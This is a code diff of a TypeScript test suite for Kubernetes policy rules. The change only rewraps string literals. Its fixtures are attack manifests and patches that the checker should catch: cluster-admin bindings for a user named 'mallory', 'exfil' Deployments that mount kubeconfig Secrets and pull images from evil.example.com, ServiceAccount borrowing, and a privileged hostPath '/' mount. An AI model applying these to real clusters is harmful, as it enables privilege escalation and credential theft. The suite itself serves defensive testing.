@@ -68,14 +68,18 @@ describe("user-layer rules on the real render", () => {
     [
       "a RoleBinding to cluster-admin",
       "rb.yaml",
-      "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata:\n  name: ops\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n  - kind: User\n    name: mallory\n",
+      "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata:\n  name: ops\nroleRef:\n" +
+        "  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n" +
+        "  - kind: User\n    name: mallory\n",
       "user-layer-rbac",
       "RoleBinding/ops:roleRef",
     ],
     [
       "a ClusterRoleBinding",
       "crb.yaml",
-      "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: ops\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: view\nsubjects:\n  - kind: Group\n    name: system:authenticated\n",
+      "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: ops\n" +
+        "roleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: view\nsubjects:\n" +
+        "  - kind: Group\n    name: system:authenticated\n",
       "user-layer-rbac",
       "ClusterRoleBinding/ops:roleRef",
     ],
@@ -89,28 +93,39 @@ describe("user-layer rules on the real render", () => {
     [
       "a Deployment mounting the kubeconfig Secret",
       "dep.yaml",
-      "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: exfil\nspec:\n  selector: {matchLabels: {app: x}}\n  template:\n    metadata: {labels: {app: x}}\n    spec:\n      containers: [{name: x, image: evil.example.com/x:1}]\n      volumes: [{name: k, secret: {secretName: demo-kubeconfig}}]\n",
+      "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: exfil\nspec:\n" +
+        "  selector: {matchLabels: {app: x}}\n  template:\n    metadata: {labels: {app: x}}\n    spec:\n" +
+        "      containers: [{name: x, image: evil.example.com/x:1}]\n" +
+        "      volumes: [{name: k, secret: {secretName: demo-kubeconfig}}]\n",
       "user-layer-secret",
       "Deployment/exfil:spec.template.spec.volumes.0.secret.secretName",
     ],
     [
       "a Deployment reading a Secret through env",
       "dep.yaml",
-      "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: exfil\nspec:\n  selector: {matchLabels: {app: x}}\n  template:\n    metadata: {labels: {app: x}}\n    spec:\n      containers: [{name: x, image: x:1, env: [{name: K, valueFrom: {secretKeyRef: {name: demo-kubeconfig, key: value}}}]}]\n",
+      "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: exfil\nspec:\n" +
+        "  selector: {matchLabels: {app: x}}\n  template:\n    metadata: {labels: {app: x}}\n    spec:\n" +
+        "      containers: [{name: x, image: x:1, env: [{name: K, valueFrom: {secretKeyRef: {name: " +
+        "demo-kubeconfig, key: value}}}]}]\n",
       "user-layer-secret",
       "Deployment/exfil:spec.template.spec.containers.0.env.0.valueFrom.secretKeyRef.name",
     ],
     [
       "a Deployment running as the autoscaler's ServiceAccount",
       "dep.yaml",
-      "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: borrow\nspec:\n  selector: {matchLabels: {app: x}}\n  template:\n    metadata: {labels: {app: x}}\n    spec:\n      serviceAccountName: demo-cluster-autoscaler\n      containers: [{name: x, image: x:1}]\n",
+      "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: borrow\nspec:\n" +
+        "  selector: {matchLabels: {app: x}}\n  template:\n    metadata: {labels: {app: x}}\n    spec:\n" +
+        "      serviceAccountName: demo-cluster-autoscaler\n      containers: [{name: x, image: x:1}]\n",
       "user-layer-serviceaccount",
       "Deployment/borrow:spec.template.spec.serviceAccountName",
     ],
     [
       "a privileged hostPath Deployment",
       "dep.yaml",
-      "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: node\nspec:\n  selector: {matchLabels: {app: x}}\n  template:\n    metadata: {labels: {app: x}}\n    spec:\n      containers: [{name: x, image: x:1, securityContext: {privileged: true}}]\n      volumes: [{name: root, hostPath: {path: /}}]\n",
+      "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: node\nspec:\n" +
+        "  selector: {matchLabels: {app: x}}\n  template:\n    metadata: {labels: {app: x}}\n    spec:\n" +
+        "      containers: [{name: x, image: x:1, securityContext: {privileged: true}}]\n" +
+        "      volumes: [{name: root, hostPath: {path: /}}]\n",
       "user-layer-host",
       "Deployment/node:spec.template.spec.volumes.0.hostPath",
     ],
@@ -131,7 +146,8 @@ describe("user-layer rules on the real render", () => {
     [
       "the autoscaler's RoleBinding pointed at cluster-admin",
       "RoleBinding",
-      "- op: replace\n  path: /roleRef\n  value: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}",
+      "- op: replace\n  path: /roleRef\n" +
+        "  value: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}",
       "user-layer-rbac",
       "RoleBinding/demo-cluster-autoscaler:roleRef",
     ],
@@ -152,7 +168,8 @@ describe("user-layer rules on the real render", () => {
     [
       "the autoscaler's image replaced",
       "Deployment",
-      "- op: replace\n  path: /spec/template/spec/containers/0/image\n  value: evil.example.com/cluster-autoscaler:v1.34.4",
+      "- op: replace\n  path: /spec/template/spec/containers/0/image\n" +
+        "  value: evil.example.com/cluster-autoscaler:v1.34.4",
       "user-layer-secret",
       "Deployment/demo-cluster-autoscaler:spec.template.spec.volumes.0.secret.secretName",
     ],
@@ -171,7 +188,8 @@ describe("user-layer rules on the real render", () => {
         jsonPatch(
           "Deployment",
           "demo-cluster-autoscaler",
-          "- op: replace\n  path: /spec/template/spec/containers/0/resources/limits/memory\n  value: 1Gi\n- op: add\n  path: /spec/template/spec/containers/0/args/-\n  value: --v=4",
+          "- op: replace\n  path: /spec/template/spec/containers/0/resources/limits/memory\n  value: 1Gi\n" +
+            "- op: add\n  path: /spec/template/spec/containers/0/args/-\n  value: --v=4",
         ),
       ),
     );
